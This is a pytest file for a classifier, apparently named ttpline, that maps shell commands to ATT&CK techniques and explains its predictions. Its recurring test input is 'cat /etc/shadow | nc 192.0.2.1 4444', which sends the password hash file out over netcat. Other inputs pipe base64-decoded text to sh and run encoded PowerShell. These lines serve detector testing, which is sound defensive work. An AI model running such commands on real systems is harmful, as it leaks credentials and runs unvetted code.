"""The parts of an explanation add up, and what it says about changes is what the model really says."""

import json
from itertools import pairwise

import pytest
from tests.explain.shown_text import shown_text

from ttpline.commands.understand import Understander
from ttpline.domain.prediction import NORMAL
from ttpline.explain.case import MOST_OCCLUDED
from ttpline.explain.explain import explain
from ttpline.explain.explanation import Explanation, Share
from ttpline.explain.shares import by_token
from ttpline.models.hybrid import Hybrid
from ttpline.models.tfidf_lr import TfidfLr
from ttpline.testing.fixed_classifier import FixedClassifier

COMMAND = "cat /etc/shadow | nc 192.0.2.1 4444"


def test_the_parts_and_the_intercept_are_the_log_probability_above_the_mean(additive: TfidfLr) -> None:
    logits = additive.logits([COMMAND])[0].astype(float)
    for explanation in explain(COMMAND, additive).explanations:
        assert explanation.method == "additive"
        expected = logits[additive.labels.index(explanation.label)] - logits.mean()
        assert explanation.total == pytest.approx(expected, abs=1e-5)


def test_the_techniques_and_normal_are_explained(additive: TfidfLr) -> None:
    explanation = explain(COMMAND, additive, top_k=2)
    labels = [each.label for each in explanation.explanations]
    assert labels[0] == "T1003.008"
    assert labels[-1] == NORMAL
    assert len(labels) == 3


def test_shares_are_places_in_the_command(additive: TfidfLr) -> None:
    for explanation in explain(COMMAND, additive).explanations:
        assert all(share.text == COMMAND[share.start : share.end] for share in explanation.shares)


def test_without_a_part_is_what_the_model_says_of_the_rest(additive: TfidfLr) -> None:
    explanation = explain(COMMAND, additive)
    assert explanation.without
    for each in explanation.without:
        rest = COMMAND[: each.removed.start] + COMMAND[each.removed.end :]
        assert each.prediction == additive.predict([rest], explain=False)[0]


def test_the_runner_up_is_second_and_its_parts_make_the_gap(additive: TfidfLr) -> None:
    runner_up = explain(COMMAND, additive).runner_up
    assert runner_up is not None
    probabilities = additive.probabilities([COMMAND])[0]
    ranked = sorted(zip(probabilities.tolist(), additive.labels, strict=True), reverse=True)
    assert (runner_up.first, runner_up.second) == (ranked[0][1], ranked[1][1])
    assert runner_up.intercept + sum(share.weight for share in runner_up.shares) == pytest.approx(runner_up.gap)


def test_a_model_that_does_not_add_up_is_explained_by_leaving_words_out(fixed: FixedClassifier) -> None:
    explanation = explain(COMMAND, fixed).explanations[0]
    assert explanation.method == "leave-one-out"
    assert [share.text for share in explanation.shares] == ["cat", "/etc/shadow", "nc", "192.0.2.1", "4444"]
    assert explanation.strongest(1)[0].text == "/etc/shadow"
    assert [share.text for share in explanation.shares if share.weight] == ["/etc/shadow"]


def test_a_share_is_how_far_the_log_odds_fall_without_the_word(hybrid: Hybrid) -> None:
    explanation = explain(COMMAND, hybrid).explanations[0]
    at = hybrid.labels.index(explanation.label)
    for share in explanation.shares:
        rest = COMMAND[: share.start] + COMMAND[share.end :]
        whole, without = hybrid.probabilities([COMMAND, rest])[:, at].astype(float)
        expected = _odds(whole) - _odds(without)
        assert share.weight == pytest.approx(expected, abs=1e-4)


def _odds(probability: float) -> float:
    import math

    return math.log(probability / (1 - probability))


def test_the_evidence_of_a_hybrid_is_told_with_the_entry_behind_it(hybrid: Hybrid) -> None:
    explanation = explain(COMMAND, hybrid).explanations[0]
    assert explanation.label == "T1003.008"
    first = explanation.reasons[0]
    assert first.entry == "reads:shadow-file"
    assert COMMAND[slice(*first.span)] == "/etc/shadow"
    assert first.sentence.startswith("`cat` reads ")
    assert first.sentence.endswith(
        ": speaks strongly for OS Credential Dumping: /etc/passwd and /etc/shadow (T1003.008)"
    )


def test_reasons_are_the_models_evidence(additive: TfidfLr, hybrid: Hybrid, fixed: FixedClassifier) -> None:
    for model in (additive, hybrid, fixed):
        for explanation in explain(COMMAND, model).explanations:
            [evidence] = model.evidence(COMMAND, [explanation.label])
            told = [(reason.kind, reason.span, reason.weight) for reason in explanation.reasons]
            assert told == [(one.kind, one.span, one.weight) for one in evidence]


def test_spans_of_a_hybrid_are_places_in_the_decoded_text(hybrid: Hybrid) -> None:
    explanation = explain("powershell -enc dwBoAG8AYQBtAGkA", hybrid)
    text = explanation.command.text
    assert text == "powershell -Command whoami"
    for each in explanation.explanations:
        assert all(text[slice(*reason.span)] == reason.text for reason in each.reasons)
        assert all(text[share.start : share.end] == share.text for share in each.shares)


def test_what_a_command_means_is_the_same_for_every_model(
    additive: TfidfLr, hybrid: Hybrid, fixed: FixedClassifier
) -> None:
    command = "echo d2hvYW1p | base64 -d | sh"
    meanings = [explain(command, model).meaning for model in (additive, hybrid, fixed)]
    assert meanings[0] == meanings[1] == meanings[2]
    assert meanings[0].text == "whoami"


def test_an_lstm_is_explained(small_knowledge: Understander) -> None:
    pytest.importorskip("torch", reason="torch is not installed: pip install 'ttpline[deep]'")
    pytest.importorskip("onnxruntime", reason="onnxruntime is not installed: pip install 'ttpline[deep]'")
    from tests.models.lstm_samples import fitted

    explanation = explain("cat /etc/shadow", fitted(epochs=8, patience=8), understander=small_knowledge)
    assert explanation.explanations[0].method == "leave-one-out"
    assert explanation.meaning.parts[0].facts[1].speaks == {"T1003.008": 3}
    assert "text like `shadow` was seen with this technique" in shown_text(explanation)


@pytest.mark.parametrize("command", ["", " ", "\x1b[31m", "a" * 50_000, "\U0010ffff", "-la", "((((", "'"])
def test_any_command_can_be_explained(additive: TfidfLr, command: str) -> None:
    explanation = explain(command, additive)
    json.dumps(explanation.to_dict())
    assert "\x1b" not in shown_text(explanation)


class Counting(FixedClassifier):
    """Counts the commands that it is asked for."""

    def probabilities(self, commands):  # type: ignore[no-untyped-def]
        self.calls.append(list(commands))
        return FixedClassifier.probabilities(self, commands)


@pytest.mark.parametrize("command", ["cat /etc/shadow " * 1_000, " ; ".join(["rm a"] * 1_000), "w " * 30_000])
def test_a_long_command_costs_few_predictions(command: str, small_knowledge: Understander) -> None:
    model = Counting({"/etc/shadow": ("T1003.008", "OS Credential Dumping", "credential-access", 0.9)})
    explanation = explain(command, model, understander=small_knowledge)
    asked = [text for call in model.calls for text in call]
    assert len(asked) <= MOST_OCCLUDED
    assert sum(map(len, asked)) <= 4 * len(command) + 2 * 65_536
    assert any(note.startswith("Only the first") and "words" in note for note in explanation.notes)


def test_n_grams_are_shared_among_their_words_and_the_sum_stays(additive: TfidfLr) -> None:
    for explanation in explain(COMMAND, additive).explanations:
        words = by_token(COMMAND, explanation.shares)
        assert sum(word.weight for word in words) == pytest.approx(sum(share.weight for share in explanation.shares))
        assert all(left.end <= right.start for left, right in pairwise(words))


def test_total_is_intercept_and_parts() -> None:
    explanation = Explanation("T1", "x", (), 0.5, "additive", 0.25, (Share(0, 1, "a", 0.5), Share(1, 2, "b", -1.0)))
    assert explanation.total == -0.25
